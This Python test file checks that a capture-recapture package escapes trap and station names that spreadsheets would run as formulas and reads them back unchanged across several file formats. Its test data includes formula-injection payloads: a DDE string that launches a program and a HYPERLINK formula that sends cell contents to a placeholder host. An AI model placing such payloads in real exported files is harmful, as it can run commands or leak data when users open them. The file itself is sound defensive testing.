"""Names that a spreadsheet would run as formulas, written and read again."""

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import scr
import trap_layouts
from scr.io.cells import as_named, csv_of, harmless
from scr.io.tables import read_table
from scr.maps.results.tables import write_csv

EVIL = [
    "=1+1", "=cmd|' /C calc'!A0", "+SUM(1;2)", "-2+3+cmd|'x'!A", "@SUM(1+1)*cmd|'x'!A",
    '=HYPERLINK("http://x/?"&A1)', "＝1+1", "'=1+1", "''@x", "=", "-", "+A", "-A1",
]  # fmt: skip
TAME = ["K01", "'t Zand", "-3.5", "+4", "1e-5", "-1e9", "", "a=b", "L-1"]
RUN = tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("name", EVIL)
def test_harmless__no_cell_begins_as_a_formula(name):
    assert not harmless(name).startswith(RUN)
    assert as_named(harmless(name)) == name


@pytest.mark.parametrize("name", TAME)
def test_harmless__leaves_numbers_and_other_names(name):
    assert harmless(name) == name
    assert as_named(name) == name


@given(st.text(st.sampled_from("'=+-@\t\r\nA1.e＝"), max_size=6))
def test_as_named__gives_back_what_harmless_was_given(name):
    assert as_named(harmless(name)) == name


def test_csv_of__tables_are_read_back_with_the_same_names(tmp_path):
    table = pd.DataFrame(
        {"station": EVIL, "x": np.linspace(-5, 5, len(EVIL)), "=1+1": pd.Categorical(EVIL)}
    )

    text = csv_of(table)
    (tmp_path / "a.csv").write_text(text, encoding="utf-8")

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    run = [c for c in cells if c.startswith(RUN) and not c.lstrip("+-")[:1].isdigit()]
    assert run == []
    again = read_table(tmp_path / "a.csv")
    assert again["station"].tolist() == EVIL
    assert again["=1+1"].tolist() == EVIL
    np.testing.assert_allclose(again["x"].astype(float), table["x"])


def test_csv_of__workbook_made_of_it_is_read_back_too(tmp_path):
    table = pd.DataFrame({"trap": EVIL[:9], "x": range(9), "y": range(9)})
    pd.read_csv(io.StringIO(csv_of(table))).to_excel(tmp_path / "a.xlsx", index=False)

    read = read_table(tmp_path / "a.xlsx", required=["trap", "x", "y"])

    assert read["trap"].tolist() == EVIL[:9]


def test_write_csv__numbers_stay_numbers(tmp_path):
    table = pd.DataFrame({"x": [-5.0, 5.0], "change": [-0.25, np.nan], "name": ["-A", "-1"]})

    write_csv(table, tmp_path / "a.csv", banner="=SIMULATED")

    assert (tmp_path / "a.csv").read_text().splitlines() == [
        "x,change,name,note", "-5.0,-0.25,'-A,'=SIMULATED", "5.0,,-1,'=SIMULATED",
    ]  # fmt: skip


@pytest.mark.parametrize("ending", [".csv", ".gpkg", ".geojson", ".gpx"])
def test_write_layout__names_come_back_from_every_format(ending, tmp_path):
    names = ["=1+1", "@A", "-B2", "'=c"]
    xy = np.array([[680_000.0, 4_770_000.0], [682_000, 4_770_000], [680_000, 4_772_000], [0, 0]])
    xy[3] = [682_000, 4_772_000]
    traps = scr.Traps(names=np.array(names, dtype=object), xy=xy, crs="EPSG:32652")
    layout = trap_layouts.Layout("l", traps)

    path = trap_layouts.write_layout(layout, tmp_path / f"l{ending}")

    again = trap_layouts.read_layout(path, to_crs="EPSG:32652")
    if ending == ".csv":
        assert "\n=" not in path.read_text()
        again = trap_layouts.read_layout(path, crs="EPSG:32652")
    assert again.traps.names.tolist() == names


def test_csv__is_written_in_one_place():
    found = [
        path.name
        for folder in ("scr", "trap_layouts")
        for path in Path(folder).rglob("*.py")
        if ".to_csv(" in path.read_text(encoding="utf-8") and "demo" not in path.parts
    ]
    assert sorted(found) == ["cells.py", "studies.py"]
